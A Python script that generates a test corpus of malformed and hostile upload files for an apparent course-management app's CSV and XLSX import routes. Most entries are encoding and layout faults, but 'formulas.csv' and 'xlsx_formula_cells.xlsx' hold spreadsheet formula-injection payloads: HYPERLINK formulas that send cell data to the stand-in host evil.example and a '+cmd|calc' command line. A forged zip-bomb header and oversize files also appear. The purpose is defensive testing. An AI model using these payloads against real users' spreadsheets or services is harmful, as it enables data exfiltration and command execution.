"""Writes the bad-input corpus: files a tired teacher (or a hostile one) might upload by mistake.

    python tests/data/make_bad_files.py            # (re)writes tests/data/bad/
    python tests/data/make_bad_files.py OUT_DIR --large   # also the big ones, which are not committed

Every file must be refused with a clear 4xx, or imported with its bad rows in `errors`, by every upload
route — never a 500, never a half-written import. Small files are committed so that a failure can be
reproduced by hand with curl; the large ones (1 MB field, 100,000 columns, 11 MiB) are made at test time.
"""

import io
import sys
import zipfile
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent


def _xlsx(rows, *, sheets=1) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for index in range(1, sheets):
        book.create_sheet(f"S{index}")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _zip(entries: dict[str, bytes], *, declared_sizes: dict[str, int] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    data = bytearray(buffer.getvalue())
    # Patch the central directory's "uncompressed size" to claim a huge expansion (a zip bomb's signature).
    for name, size in (declared_sizes or {}).items():
        encoded = name.encode()
        position = 0
        while True:
            position = data.find(b"PK\x01\x02", position)
            if position < 0:
                break
            name_length = int.from_bytes(data[position + 28 : position + 30], "little")
            if data[position + 46 : position + 46 + name_length] == encoded:
                data[position + 24 : position + 28] = size.to_bytes(4, "little")
            position += 4
    return bytes(data)


def small_files() -> dict[str, bytes]:
    """Name → content of every committed corpus file."""
    good_xlsx = _xlsx([["username", "email"], ["a", "a@example.edu"]])
    files: dict[str, bytes] = {
        "empty.csv": b"",
        "whitespace_only.csv": b"   \n\t\n  \r\n",
        "newlines_only.csv": b"\n\n\n\n",
        "bom_only.csv": b"\xef\xbb\xbf",
        "header_only_unknown.csv": b"colour,flavour,size\n",
        "only_commas.csv": b",,,\n,,,\n,,,\n",
        "binary_noise.bin": bytes((i * 7919 + 13) % 256 for i in range(4096)),
        "pdf_document.pdf": b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n",
        "png_renamed.csv": b"\x89PNG\r\n\x1a\n" + bytes(200),
        "jpeg_renamed.csv": b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(200),
        "gzip_renamed.csv": b"\x1f\x8b\x08\x00" + bytes(100),
        "legacy_xls.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "html_page.csv": b"<!doctype html><html><body><table><tr><td>x</td></tr></table></body></html>\n",
        "json_document.csv": b'{"username": "a", "email": "a@example.edu"}\n',
        "nul_bytes.csv": b"username,email\nab\x00c,a@example.edu\n",
        "control_characters.csv": b"username,email\n\x01\x02\x03,\x04\x05@x\n" * 3,
        "invalid_utf8_sequences.csv": b"username,email\n\xc3\x28\xa0\xa1,\xf0\x28\x8c\x28@x\n",
        "mixed_encodings.csv": "username,email\nJosé,jose@example.edu\n".encode() + "Zoë,zoe@example.edu\n".encode("cp1252"),
        "utf16_without_bom.csv": "username,email\nx,x@example.edu\n".encode("utf-16-le"),
        "unbalanced_quotes.csv": b'username,email\n"never closed,a@example.edu\nb,b@example.edu\n',
        "ragged_rows.csv": b"username,email\na,a@example.edu,extra,more\nb\n",
        "duplicated_headers.csv": b"username,email,email\na,a@example.edu,b@example.edu\n",
        "blank_header_in_middle.csv": b"username,,email\na,x,a@example.edu\n",
        "wrong_headings_semicolon.csv": b"nom;courriel;role\nDupont;d@example.edu;Etudiant\n",
        "wrong_headings_tab.csv": b"name\tmail\nx\tx@example.edu\n",
        "formulas.csv": (
            b'username,email,first_name,last_name,role\n'
            b'=HYPERLINK("http://evil.example/?"&A1;"click"),=1+1@x,+cmd|calc,-2+3,@SUM(A1)\n'
        ),
        "impossible_dates.csv": (
            b"Full Name,User Action,Timestamp\n"
            b"Alice,Joined,31/02/2021 10:00:00\nAlice,Left,99/99/2021 25:61:00\n"
        ),
        "dates_in_words.csv": b"Full Name,User Action,Timestamp\nAlice,Joined,next tuesday\n",
        "two_dates_teams.csv": (
            b"Full Name,User Action,Timestamp\nAlice,Joined,01/03/2021 10:00:00\nAlice,Left,02/03/2021 10:30:00\n"
        ),
        "left_before_joined.csv": b"Full Name,User Action,Timestamp\nAlice,Left,01/03/2021 10:00:00\n",
        "unknown_action.csv": b"Full Name,User Action,Timestamp\nAlice,Teleported,01/03/2021 10:00:00\n",
        "roster_duplicate_rolls.csv": b"Roll Number,Name\n001,Alice\n001,Bob\n",
        "roster_blank_rolls.csv": b"Roll Number,Name\n,Alice\n,Bob\n",
        "users_bad_rows.csv": (
            b"email,first_name,last_name,username,nickname,role,student_id\n"
            b"not-an-email,A,B,user_a,,Student,\n,C,D,,,Student,\nx@example.edu,E,F,user_x,,Emperor,\n"
        ),
        "users_every_row_invalid.csv": (
            b"email,first_name,last_name,username,role\ndup@,A,B,dup,Student\n"
            b"@example.edu,A,B,DUP,Student\n,,,,\n"
        ),
        "enrolment_unknown_unit.csv": (
            b"unit_code,username,student_id,first_name,last_name,email,tutorial,campus\n"
            b"NOPE999,s1,1,A,B,not-an-email,LA1-01,Nowhere\n"
        ),
        "tasks_bad_json.csv": (
            b"name,abbreviation,description,weighting,target_grade,restrict_status_updates,max_quality_pts,is_graded,"
            b"plagiarism_warn_pct,plagiarism_checks,group_set,upload_requirements,start_week,start_day,target_week,"
            b"target_day,due_week,due_day\n"
            b"Task,T1,d,1,9,FALSE,500,FALSE,50,{not json,,[{oops,1,Mon,2,Funday,3,Mon\n"
        ),
        "google_form_no_roll.csv": b"Timestamp,Your Name\n2021/03/01 10:00:00,Alice\n",
        # Issue 15's layouts, each wrong in one way a real file can be.
        "meet_without_date.csv": (  # Google Meet: times alone, and no date in this file's name
            b"First name,Last name,Email,Duration,Time joined,Time exited\n"
            b"Alice,Liddell,alice@example.edu,45 min,10:00:12 AM,10:45:12 AM\n"
        ),
        "meet_duration_in_words.csv": (
            b"Name,Email,Duration,Time joined,Time exited\n2021-03-01 Alice,a@example.edu,most of it,10:00 AM,11:00 AM\n"
        ),
        "teams_german_impossible_date.csv": (  # dotted dates are day first: there is no 31 February
            "1. Zusammenfassung\n\n2. Teilnehmer\n"
            "Name\tErster Beitritt\tLetztes Verlassen\tDauer der Besprechung\tE-Mail\tTeilnehmer-ID (UPN)\tRolle\n"
            "Alice\t31.02.2022, 09:00:00\t31.02.2022, 10:00:00\t60 Min.\ta@example.edu\ta@example.edu\tTeilnehmer\n"
        ).encode("utf-16"),
        "teams_live_unknown_action.csv": (
            b"Session Id,Participant Id,Full Name,UserAgent,UTC Event Timestamp,Action,Role\n"
            b"s1,alice@example.edu,Alice,x,3/1/2021 10:00:00 AM,Teleported,Attendee\n"
        ),
        "zoom_webinar_attended_without_times.csv": (
            b"Attendee Report\nAttendee Details\n"
            b"Attended,User Name (Original Name),Email,Join Time,Leave Time,Time in Session (minutes)\nYes,Alice,a@example.edu,--,--,--\n"
        ),
        "webex_left_before_joined.csv": (
            "displayName\temail\tjoinedTime\tleftTime\tduration\tparticipantType\n"
            "Alice\ta@example.edu\t2021-03-01T11:00:00+01:00\t2021-03-01T10:00:00+01:00\t0\tattendee\n"
        ).encode("utf-16"),
        "xlsx_truncated.xlsx": good_xlsx[: len(good_xlsx) // 2],
        "xlsx_zip_bomb.xlsx": _zip(
            {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": bytes(1000)},
            declared_sizes={"xl/worksheets/sheet1.xml": 4_000_000_000},
        ),
        "xlsx_thousands_of_parts.xlsx": _zip(
            {"[Content_Types].xml": b"<Types/>", **{f"xl/worksheets/sheet{i}.xml": b"<x/>" for i in range(1, 2001)}}
        ),
        "xlsx_not_a_workbook.xlsx": _zip({"hello.txt": b"just a zip file"}),
        "xlsx_empty_sheet.xlsx": _xlsx([]),
        "xlsx_header_only.xlsx": _xlsx([["colour", "flavour"]]),
        "xlsx_formula_cells.xlsx": _xlsx([["username", "email"], ["=1+1", '=HYPERLINK("http://evil.example")']]),
    }
    return files


def large_files() -> dict[str, bytes]:
    """The big ones, made at test time: a 1 MB field, 100,000 columns, and an 11 MiB upload."""
    return {
        "one_megabyte_field.csv": b"username,email\n" + b"x" * 1_000_000 + b",a@example.edu\n",
        "hundred_thousand_columns.csv": b",".join(b"c%d" % i for i in range(100_000)) + b"\n",
        "eleven_mebibytes.csv": b"username,email\n" + b"u,u@example.edu\n" * (11 * 2**20 // 16 + 1),
    }


def write(directory: Path, files: dict[str, bytes]) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (directory / name).write_bytes(data)


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 and not sys.argv[1].startswith("--") else HERE / "bad"
    write(target, small_files())
    if "--large" in sys.argv:
        write(target, large_files())
    print(f"wrote {len(list(target.iterdir()))} files to {target}")
